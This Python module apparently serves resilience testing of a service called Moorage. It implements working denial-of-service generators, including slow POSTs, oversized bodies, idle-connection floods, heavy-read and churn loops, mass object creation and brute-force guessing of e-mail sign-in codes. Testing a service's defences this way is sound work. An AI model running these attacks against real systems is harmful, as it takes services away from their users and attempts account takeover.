"""What one organization, or a stranger, can do over HTTP to take the service away from others: each as a generator that
runs in a process of its own until it is ended, against Moorage or against a sink that does nothing."""

import asyncio
import contextlib
import ctypes
import itertools
import multiprocessing
import resource
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial

import aiohttp
from aiohttp import web

SOURCE = "127.0.0.66"
"""Not the address from which the measured organization comes, as on a network."""
SLOW_CLIENTS = 200
IDLE_CONNECTIONS = 11_000
LOG_STREAMS = 399
STREAMS_OF_SINK = 12
"""As many as one person may have: whoever is refused asks again, which costs this machine more than to be served."""
DELETED_AT_ONCE, DELETED_AFTER_S = 3, 3.0
"""Containers, each of several replicas, and how long they may start before they go."""
LEFT_BEHIND = "deleted-"
"""How the names of containers begin of which some are left when the attack is ended."""
LARGE_JSON = b'{"client_name": [' + b"1," * 950_000 + b"1]}"


@dataclass(frozen=True)
class Target:
    host: str
    port: int
    headers: dict[str, str] = field(repr=False)
    organization_id: str
    project_id: str
    container_id: str
    """Of the attacker, with a log and a policy."""
    busy_ids: tuple[str, ...] = ()
    """Containers of the attacker whose processes do not end when they are asked to."""
    stubborn: Mapping[str, object] = field(default_factory=dict)
    """Settings of one more of those, with as many replicas as it may have."""

    @property
    def api(self) -> str:
        return f"http://{self.host}:{self.port}/api/v1"


Attack = Callable[[Target, aiohttp.ClientSession, "Tally"], Awaitable[None]]
OUTCOMES = ("2xx", "4xx", "429", "5xx", "broken", "connections")
"""What became of what a generator sent. Connections are those that it speaks over by itself."""
BEGIN_WITHIN_S = 30.0


class Tally:
    """What a generator did so far, counted in its process and read in ours."""

    def __init__(self, counts: "ctypes.Array[ctypes.c_ulonglong]") -> None:
        self._counts = counts

    def add(self, outcome: str) -> None:
        self._counts[OUTCOMES.index(outcome)] += 1

    def add_answer(self, status: int) -> None:
        self.add("429" if status == 429 else "5xx" if status >= 500 else "4xx" if status >= 400 else "2xx")

    def taken(self) -> Counter[str]:
        return Counter(dict(zip(OUTCOMES, self._counts, strict=True)))


@contextlib.contextmanager
def attacking(name: str, target: Target) -> Iterator[Tally]:
    """From the moment that something came of what it sends."""
    spawn = multiprocessing.get_context("spawn")
    counts: ctypes.Array[ctypes.c_ulonglong] = spawn.RawArray(ctypes.c_ulonglong, len(OUTCOMES))
    process = spawn.Process(target=_run, args=(name, target, counts), daemon=True)
    process.start()
    try:
        began_s = time.monotonic()
        while not any(counts):
            assert time.monotonic() < began_s + BEGIN_WITHIN_S, f"the attack {name} did not begin"
            assert process.is_alive(), f"the attack {name} ended by itself"
            time.sleep(0.05)
        yield Tally(counts)
        assert process.is_alive(), f"the attack {name} ended by itself"
    finally:
        process.kill()
        process.join(10)


@contextlib.contextmanager
def idle_sink(port: int) -> Iterator[None]:
    process = multiprocessing.get_context("spawn").Process(target=_sink, args=(port,), daemon=True)
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join(10)


def _run(name: str, target: Target, counts: "ctypes.Array[ctypes.c_ulonglong]") -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    tally = Tally(counts)

    async def answered(_: object, __: object, end: aiohttp.TraceRequestEndParams) -> None:
        tally.add_answer(end.response.status)

    async def broken(_: object, __: object, ___: object) -> None:
        tally.add("broken")

    async def attack() -> None:
        connector = aiohttp.TCPConnector(limit=0, local_addr=(SOURCE, 0))
        timeout = aiohttp.ClientTimeout(total=120)
        trace = aiohttp.TraceConfig()
        trace.on_request_end.append(answered)
        trace.on_request_exception.append(broken)
        async with aiohttp.ClientSession(connector=connector, timeout=timeout, trace_configs=[trace]) as http:
            await ATTACKS[name](target, http, tally)

    asyncio.run(attack())


def _sink(port: int) -> None:
    """Takes everything and does nothing."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    streams = asyncio.Semaphore(STREAMS_OF_SINK)

    async def handle(request: web.Request) -> web.StreamResponse:
        if request.path.endswith("/stream"):
            if streams.locked():
                return web.json_response({}, status=429)
            async with streams:
                answer = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
                await answer.prepare(request)
                await asyncio.sleep(300)
                return answer
        with contextlib.suppress(ConnectionResetError):  # it broke off, as was meant
            async for _ in request.content.iter_any():
                pass
        return web.json_response({})

    app = web.Application(client_max_size=2**30)
    app.router.add_route("*", "/{path:.*}", handle)
    web.run_app(app, host="127.0.0.1", port=port, print=None, backlog=4096)


async def _for_ever(clients: int, ask: Callable[[int], Awaitable[None]], pause_s: float = 0.05) -> None:
    """So many clients that repeat it, whatever they are answered. The pause is what keeps a sink, which answers at
    once, from being asked so often that calm costs this machine more than the attack."""

    async def one(client: int) -> None:
        for number in itertools.count():
            with contextlib.suppress(aiohttp.ClientError, OSError, TimeoutError, asyncio.IncompleteReadError):
                await ask(client * 1_000_000 + number)
            await asyncio.sleep(pause_s)

    await asyncio.gather(*(one(client) for client in range(clients)))


async def slow_posts(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """Bodies at a byte a second, signed in and not; also where each byte needs a connection of its own, because the last
    one was refused. As many connections as it can are another attack."""
    paths = ("/device", "/sign-in", "/api/v1/auth/device", f"/api/v1/projects/{target.project_id}/containers")

    async def ask(number: int) -> None:
        path = paths[number % len(paths)]
        authorization = f"Authorization: {target.headers['Authorization']}\r\n" if number % 2 else ""
        head = f"POST {path} HTTP/1.1\r\nHost: {target.host}\r\n{authorization}Content-Length: 1000\r\n\r\n"
        async with _connection(target) as (reader, writer):
            tally.add("connections")
            writer.write(head.encode() + b"{")
            while not reader.at_eof() and not writer.is_closing():
                writer.write(b" ")
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await reader.read(65536)

    await _for_ever(SLOW_CLIENTS, ask, pause_s=1)


async def large_bodies(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    headers = {"Content-Type": "application/json"}

    async def ask(_: int) -> None:
        async with http.post(f"{target.api}/auth/device", data=LARGE_JSON, headers=headers) as answer:
            await answer.read()

    await _for_ever(4, ask, pause_s=0.5)


async def idle_connections(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    held: list[socket.socket] = []
    most = min(IDLE_CONNECTIONS, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 500)
    while True:
        held = [one for one in held if not _is_closed(one)]
        for _ in range(min(1000, most - len(held))):
            one = socket.socket()
            one.bind((SOURCE, 0))
            one.setblocking(False)
            one.connect_ex((target.host, target.port))
            held.append(one)
            tally.add("connections")
        await asyncio.sleep(0.1)


async def heavy_reads(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """Replays of a week, files, histograms, invoices as PDF."""
    now = datetime.now(UTC)
    week = {"from": (now - timedelta(days=7)).isoformat(), "to": now.isoformat()}
    container = f"{target.api}/containers/{target.container_id}"
    invoice = f"{target.api}/organizations/{target.organization_id}/billing/invoices/{now:%Y-%m}/pdf"
    reads = (
        partial(http.post, f"{container}/autoscaling/replay", json=week),
        partial(http.get, f"{container}/logs/download", params=week),
        partial(http.get, f"{container}/logs/histogram", params=week),
        partial(http.get, invoice),
    )

    async def ask(number: int) -> None:
        async with reads[number % len(reads)](headers=target.headers) as answer:
            await answer.read()

    await _for_ever(12, ask, pause_s=0.2)


async def stops_and_starts(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    async def ask(number: int) -> None:
        container = target.busy_ids[number // 1_000_000]
        action = ("stop", "start")[number % 2]
        async with http.post(
            f"{target.api}/containers/{container}/{action}", headers=target.headers
        ) as answer:
            await answer.read()

    await _for_ever(len(target.busy_ids), ask, pause_s=1)


async def mass_deletes(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """Containers of many replicas that do not end when they are asked to, made and deleted all at once, again and again:
    each of their stops takes its whole grace."""
    project = f"{target.api}/projects/{target.project_id}/containers"

    async def ask(number: int) -> None:
        body = {**target.stubborn, "name": f"{LEFT_BEHIND}{number}"}
        async with http.post(project, json=body, headers=target.headers) as answer:
            made = await answer.json()
        if "id" in made:
            await asyncio.sleep(DELETED_AFTER_S)
            path = f"{target.api}/containers/{made['id']}"
            async with http.delete(path, headers=target.headers) as answer:
                await answer.read()

    await _for_ever(DELETED_AT_ONCE, ask, pause_s=1)


async def streams_and_rows(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """As many log streams, keys, projects, organizations and invitations as it gets."""

    async def follow(_: int) -> None:
        path = f"{target.api}/containers/{target.container_id}/logs/stream"
        async with http.get(path, headers=target.headers) as answer:
            await answer.read()

    async def create(number: int) -> None:
        of_organization = f"/organizations/{target.organization_id}"
        path, body = (
            (f"/projects/{target.project_id}/api-keys", {"name": f"key-{number}"}),
            (f"{of_organization}/projects", {"name": f"project-{number}"}),
            ("/organizations", {"name": f"organization-{number}"}),
            (f"{of_organization}/invitations", {"email": f"guest-{number}@example.com", "role": "user"}),
        )[number % 4]
        async with http.post(f"{target.api}{path}", json=body, headers=target.headers) as answer:
            await answer.read()

    await asyncio.gather(_for_ever(LOG_STREAMS, follow, pause_s=1), _for_ever(8, create))


async def guesses(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """Codes of e-mail sign-in for many addresses, and device logins, by nobody in particular."""

    async def ask(number: int) -> None:
        address = f"somebody-{number % 120}@example.com"
        path, body = (
            ("/auth/email/start", {"email": address}),
            ("/auth/email/verify", {"email": address, "code": f"{number % 1_000_000:06d}"}),
            ("/auth/device", {"client_name": "cli"}),
        )[number % 3]
        async with http.post(f"{target.api}{path}", json=body) as answer:
            await answer.read()

    await _for_ever(16, ask)


async def aborted_requests(target: Target, http: aiohttp.ClientSession, tally: Tally) -> None:
    """Longer than what the gateway keeps back, so that they reach the API before they break off."""
    head = f"POST /sign-in HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 100000\r\n\r\n".encode()

    async def ask(_: int) -> None:
        async with _connection(target) as (_, writer):
            tally.add("connections")
            writer.write(head + b"x" * 40_000)
            await writer.drain()
            await asyncio.sleep(0.02)

    await _for_ever(16, ask)


@contextlib.asynccontextmanager
async def _connection(target: Target):  # type: ignore[no-untyped-def]
    reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(SOURCE, 0))
    try:
        yield reader, writer
    finally:
        writer.close()


def _is_closed(connection: socket.socket) -> bool:
    try:
        if connection.recv(1) == b"":
            connection.close()
            return True
    except BlockingIOError:
        return False
    except OSError:
        connection.close()
        return True
    return False


ATTACKS: dict[str, Attack] = {
    "slow posts": slow_posts,
    "large bodies": large_bodies,
    "idle connections": idle_connections,
    "heavy reads": heavy_reads,
    "stops and starts": stops_and_starts,
    "mass deletes": mass_deletes,
    "streams and rows": streams_and_rows,
    "guesses": guesses,
    "aborted requests": aborted_requests,
}
